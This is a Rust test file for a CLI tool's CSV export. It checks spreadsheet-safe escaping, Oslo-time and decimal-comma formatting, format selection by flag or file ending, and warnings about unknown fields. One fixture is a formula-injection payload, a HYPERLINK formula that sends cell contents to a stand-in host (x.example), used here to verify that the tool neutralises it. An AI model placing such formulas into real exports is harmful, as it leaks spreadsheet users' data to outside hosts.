//! CSV for programs and for spreadsheets.

use crate::binary::run;
use crate::server::Server;

fn listed(arguments: &[&str]) -> String {
    let file =
        concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/cases/cli-cells-that-are-formulas.json");
    let cards: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
    let server = Server::responding(move |_| {
        ("200 OK".to_owned(), serde_json::json!({ "cards": cards }).to_string())
    });
    let ran = server.run(&[&["-o", "csv"], arguments].concat());
    assert_eq!(ran.code, Some(0), "{}", ran.err);
    ran.out
}

#[test]
fn no_cell_for_a_spreadsheet_is_a_formula() {
    let text = listed(&["--csv", "excel", "--fields", "card_id,amount,currency,name,customer_id"]);
    assert_eq!(
        text,
        "\u{feff}card_id;amount;currency;name;customer_id\n\
         \"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\";1,00;NOK;'+1+1;'@SUM(1+1)\n"
    );
    let plain = listed(&["--fields", "amount,currency,name,customer_id"]);
    assert_eq!(plain, "amount,currency,name,customer_id\n100,NOK,+1+1,@SUM(1+1)\n");
    let help = run(&["list", "--help"]).out;
    assert!(help.contains("excel is for spreadsheets, which run cells"), "{help}");
}

#[test]
fn amounts_and_times_for_a_spreadsheet_are_those_that_people_read() {
    let body = r#"{"cards":[{"currency":"NOK","amount":-5,"created_at":"2026-10-31T23:30:00Z"},
        {"currency":"JPY","amount":500},{"amount":500},
        {"currency":"\t=1","amount":0,"name":"－1"}]}"#;
    let ran = Server::start("200 OK", body).run(&[
        "-o",
        "csv",
        "--csv",
        "excel",
        "--time-zone",
        "Europe/Oslo",
        "--fields",
        "amount,created_at,currency,name",
    ]);
    assert_eq!(
        ran.out.trim_start_matches('\u{feff}'),
        "amount;created_at;currency;name\n-0,05;2026-11-01 00:30;NOK;\n500;;JPY;\n500;;;\n\
         0;;'\t=1;'－1\n"
    );
}

#[test]
fn numbers_in_metadata_leave_as_they_came() {
    let body = include_str!("cases/cli-metadata-with-a-large-number.json");
    for arguments in [
        &["-o", "json"][..],
        &["-o", "ndjson"],
        &["-o", "ndjson", "--fields", "card_id,metadata"],
        &["-o", "csv"],
        &["--fields", "metadata"],
    ] {
        let ran = Server::start("200 OK", body).run(arguments);
        assert!(ran.out.contains("12345678901234567890123"), "{arguments:?}: {}", ran.out);
    }
}

#[test]
fn a_format_is_named_by_a_flag_an_ending_or_a_dialect() {
    let folder = tempfile::tempdir().unwrap();
    let list = |arguments: &[&str]| run(&[&["list", "--sandbox=1", "-q"], arguments].concat());
    assert!(list(&["--csv", "excel"]).out.starts_with("\u{feff}card_id;amount;"));
    for (name, begin) in [("a.txt", " card_id"), ("a.JSON", "[\n"), ("a", " card_id")] {
        let file = folder.path().join(name);
        assert_eq!(list(&["--out", file.to_str().unwrap()]).code, Some(0));
        assert!(std::fs::read_to_string(file).unwrap().starts_with(begin), "{name}");
    }
    for arguments in [&["--out", "cards.doc"][..], &["-o", "json", "--csv", "excel"]] {
        for command in ["list", "report"] {
            let ran = run(&[&[command, "--sandbox=1"], arguments].concat());
            assert_eq!((ran.code, ran.out.as_str()), (Some(2), ""), "{arguments:?}: {}", ran.err);
        }
    }
}

#[test]
fn fields_that_the_document_does_not_name_are_noticed_once() {
    let body = r#"{"cards":[{"card_id":"a","colour":"red"},{"colour":1,"pin":{"new\u001b":[]}}],
        "total":2}"#;
    let ran = Server::start("200 OK", body).run(&["-o", "csv", "--fields", "card_id"]);
    assert_eq!((ran.code, ran.out.lines().count()), (Some(0), 3));
    let note = "note: the cards have fields that this version does not name: \
                cards.colour, cards.pin.new\\u{1b}, total\n";
    assert_eq!(ran.err.matches("fields that").count(), 1, "{}", ran.err);
    assert!(ran.err.contains(note), "{}", ran.err);
}
